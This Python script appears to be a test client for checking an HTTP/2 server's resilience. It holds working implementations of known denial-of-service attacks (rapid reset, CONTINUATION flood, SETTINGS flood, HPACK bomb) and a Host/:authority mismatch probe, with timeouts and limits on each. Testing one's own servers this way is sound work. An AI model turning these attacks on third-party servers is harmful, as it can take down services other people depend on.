#!/usr/bin/python3
"""An HTTP/2 client that does what curl will not: several streams on one connection, and the
known attacks. Python's h2 (Debian's python3-h2) for the frames, TLS with ALPN h2.

    h2_peer.py CA ADDR SNI streams AUTHORITY:PATH[:HOST]...
                                                       one stream each, all on one connection,
                                                       with a Host field where HOST is given (and
                                                       no :authority where AUTHORITY is empty);
                                                       prints "PATH AUTHORITY[@HOST] STATUS" each
    h2_peer.py CA ADDR SNI rapid_reset N               N streams opened and reset at once
    h2_peer.py CA ADDR SNI continuation N              one HEADERS, then N CONTINUATION frames
    h2_peer.py CA ADDR SNI settings_flood N            up to N SETTINGS frames (for 8 s at most),
                                                       nothing read meanwhile
    h2_peer.py CA ADDR SNI hpack_bomb COPIES           one stream whose header block decodes
                                                       into COPIES x 3 KB (one entry of the
                                                       dynamic table, referred to COPIES times)
    h2_peer.py CA ADDR SNI websocket PATH              an extended CONNECT (RFC 8441) once the
                                                       server allows it; sends "ping", prints the
                                                       status (and, on 200, what came back)
Each attack prints how the connection ended ("goaway CODE", "closed", "open") and what
came back. Bounded: every socket has a 10 s timeout."""
import socket
import ssl
import struct
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack

ca, addr, sni, what = sys.argv[1:5]
args = sys.argv[5:]


def connect():
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection((addr, 443), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname=sni)
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    # Unvalidated: the peer sends what a hostile client would (a Host beside :authority).
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(
        client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def request(path, authority, host=None):
    head = [(":method", "GET"), (":path", path), (":scheme", "https")]
    if authority:
        head.append((":authority", authority))
    return head + ([("host", host)] if host else [])


def pump(s, conn, until):
    """Reads events until until(events so far) says stop or the connection ends."""
    seen = []
    while not until(seen):
        try:
            data = s.recv(65536)
        except socket.timeout:
            seen.append("timeout")  # the server neither answered nor closed
            break
        except (ConnectionError, ssl.SSLError):
            seen.append("closed")
            break
        if not data:
            seen.append("closed")
            break
        for e in conn.receive_data(data):
            seen.append(e)
        out = conn.data_to_send()
        if out:
            try:
                s.sendall(out)
            except (ConnectionError, ssl.SSLError):
                pass
    return seen


def ending(seen):
    for e in seen:
        if isinstance(e, h2.events.ConnectionTerminated):
            return f"goaway {e.error_code.name if hasattr(e.error_code, 'name') else e.error_code}"
    return "closed" if "closed" in seen else "timeout" if "timeout" in seen else "open"


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


if what == "streams":
    s, conn = connect()
    ids = {}
    for target in args:
        authority, path, *host = target.split(":", 2)
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request(path, authority, *host), end_stream=True)
        ids[sid] = target
    s.sendall(conn.data_to_send())
    status, ended = {}, set()
    def all_done(seen):
        for e in seen[len(all_done.n):]:
            if isinstance(e, h2.events.ResponseReceived):
                status[e.stream_id] = dict(e.headers).get(":status")
            if isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended.add(e.stream_id)
        all_done.n = list(seen)
        return ended >= set(ids) or "closed" in seen or "timeout" in seen
    all_done.n = []
    pump(s, conn, all_done)
    for sid, target in ids.items():
        authority, path, *host = target.split(":", 2)
        print(path, authority + "".join("@" + h for h in host), status.get(sid, "reset"))
elif what == "rapid_reset":
    s, conn = connect()
    sent = 0
    try:
        for i in range(int(args[0])):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, request(f"/rr{i}", sni), end_stream=True)
            conn.reset_stream(sid)
            s.sendall(conn.data_to_send())
            sent += 1
    except (ConnectionError, ssl.SSLError, h2.exceptions.ProtocolError):
        pass
    seen = pump(s, conn, lambda seen: any(isinstance(e, h2.events.ConnectionTerminated) for e in seen))
    print(f"sent {sent} {ending(seen)}")
elif what == "continuation":
    s, conn = connect()
    enc = hpack.Encoder()
    block = enc.encode(request("/c", sni))
    out = frame(0x1, 0x0, 1, block)  # HEADERS without END_HEADERS
    for i in range(int(args[0])):
        out += frame(0x9, 0x0, 1, enc.encode([(f"x-c{i}", "1")]))  # CONTINUATION, never the last
    try:
        s.sendall(out)
    except (ConnectionError, ssl.SSLError):
        pass
    seen = pump(s, conn, lambda seen: any(isinstance(e, h2.events.ConnectionTerminated) for e in seen))
    print(ending(seen))
elif what == "settings_flood":
    import time
    s, conn = connect()
    sent = 0
    batch = frame(0x4, 0x0, 0, b"") * 1000
    deadline = time.monotonic() + 8
    try:
        while sent < int(args[0]) and time.monotonic() < deadline:
            s.sendall(batch)
            sent += 1000
        print(f"sent {sent} open")  # the server took it all
    except socket.timeout:
        print(f"sent {sent} timeout")
    except (ConnectionError, ssl.SSLError):
        print(f"sent {sent} closed")  # the server ended the connection under the flood
elif what == "hpack_bomb":
    s, conn = connect()
    sid = conn.get_next_available_stream_id()
    # h2 indexes the value once and refers to it after: a few KiB on the wire.
    conn.send_headers(sid, request("/bomb", sni) + [("x-bomb", "b" * 3000)] * int(args[0]), end_stream=True)
    wire = conn.data_to_send()
    s.sendall(wire)
    status = {}
    def done(seen):
        for e in seen:
            if isinstance(e, h2.events.ResponseReceived):
                status["s"] = dict(e.headers).get(":status")
            if isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)):
                return True
        return "closed" in seen or "timeout" in seen
    seen = pump(s, conn, done)
    reset = any(isinstance(e, h2.events.StreamReset) for e in seen)
    print(f"wire {len(wire)} {'reset' if reset else status.get('s', ending(seen))}")
elif what == "websocket":
    s, conn = connect()
    code = h2.settings.SettingCodes.ENABLE_CONNECT_PROTOCOL
    allowed = lambda seen: conn.remote_settings.get(code, 0) == 1 or "closed" in seen or "timeout" in seen
    pump(s, conn, allowed)
    if conn.remote_settings.get(code, 0) != 1:
        print("not offered")
        sys.exit(0)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "CONNECT"), (":protocol", "websocket"), (":path", args[0]),
                            (":authority", sni), (":scheme", "https")])
    s.sendall(conn.data_to_send())
    got = {"n": 0}
    def answered(seen):
        fresh, got["n"] = seen[got["n"]:], len(seen)
        for e in fresh:
            if isinstance(e, h2.events.ResponseReceived):
                got["status"] = dict(e.headers).get(":status")
            if isinstance(e, h2.events.DataReceived):
                got["data"] = got.get("data", b"") + e.data
            if isinstance(e, (h2.events.StreamReset, h2.events.StreamEnded)):
                return True
        if got.get("status") and got["status"] != "200":
            return True
        if got.get("status") == "200" and "sent" not in got:
            got["sent"] = True
            conn.send_data(sid, b"ping")
            s.sendall(conn.data_to_send())
        return got.get("data", b"").endswith(b"ping") or "closed" in seen or "timeout" in seen
    pump(s, conn, answered)
    status = got.get("status", "reset")
    print(f"{status} {got.get('data', b'').decode(errors='replace')}" if status == "200" else status)
